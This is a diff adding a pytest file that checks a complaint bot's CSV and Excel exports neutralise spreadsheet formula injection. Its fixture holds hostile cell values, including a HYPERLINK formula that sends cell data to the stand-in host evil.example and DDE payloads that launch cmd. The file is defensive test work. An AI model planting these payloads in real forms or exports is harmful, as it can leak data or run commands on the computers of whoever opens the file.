@@ -1,0 +1,79 @@
+"""Exports are inert: a person's text in the register never becomes a formula (OWASP's
+CSV-injection guidance), in the register's CSV and workbook and in the report's CSV.
+The in-memory mailbox: no server needed."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+
+import pytest
+
+from bot.reporting.export import write_csv
+from bot.reporting.inert import csv_value
+from bot.reporting.report import compute, register_workbook
+from bot.reporting.report import write_csv as write_report_csv
+from bot.store.models import Complaint
+from bot.testing import samples
+from tests.conftest import MemoryEnv
+
+HOSTILE = {
+    "Nom et prénom": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
+    "Objet de la réclamation": "+cmd|' /C calc'!A0",
+    "Action(s) de formation concernée(s)": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Intervenants concernés": "-2+3+cmd|' /C calc'!A0",
+    "Description": "=1+1\nsuite",
+}
+
+
+def registered(memory: MemoryEnv) -> Complaint:
+    memory.deliver(samples.form_submission(dict(samples.COMPLETE_FORM, **HOSTILE)))
+    [complaint] = memory.query(Complaint)
+    assert complaint.client_name == HOSTILE["Nom et prénom"]  # kept as she wrote it
+    return complaint
+
+
+def test_security_register_csv_holds_no_live_formula(memory: MemoryEnv) -> None:
+    registered(memory)
+    out = io.StringIO()
+    with memory.app.sessions() as session:
+        write_csv(session, out, memory.app.rulebook)
+    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
+    cells = [value for row in rows[1:] for value in row]
+    assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + HOSTILE["Nom et prénom"] in cells
+    assert "'" + HOSTILE["Objet de la réclamation"] in cells
+
+
+def test_security_workbook_holds_no_formula_cell(memory: MemoryEnv) -> None:
+    from openpyxl import load_workbook
+
+    registered(memory)
+    with memory.app.sessions() as session:
+        data = register_workbook(session, memory.app)
+    workbook = load_workbook(io.BytesIO(data))
+    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert HOSTILE["Nom et prénom"] in [c.value for c in cells]  # as text, intact
+
+
+def test_security_report_csv_holds_no_live_formula(memory: MemoryEnv) -> None:
+    registered(memory)
+    today = dt.date.today()
+    with memory.app.sessions() as session:
+        report = compute(session, memory.app.rulebook.calendar, today.replace(day=1),
+                         today + dt.timedelta(days=1))
+    out = io.StringIO()
+    write_report_csv(report, out)  # type: ignore[arg-type]
+    values = [v for row in csv.reader(io.StringIO(out.getvalue()), delimiter=";") for v in row]
+    assert not [v for v in values if v[:1] in ("=", "+", "@") or v.startswith("-2+")]
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    ("=1+1", "'=1+1"), ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"), ("@x", "'@x"),
+    ("\t=1", "'\t=1"), ("-2", "-2"), ("12,5", "12,5"), ("-40 %", "-40 %"),
+    ("Jeanne", "Jeanne"), ("", ""),
+])
+def test_csv_values(value: str, written: str) -> None:
+    assert csv_value(value) == written
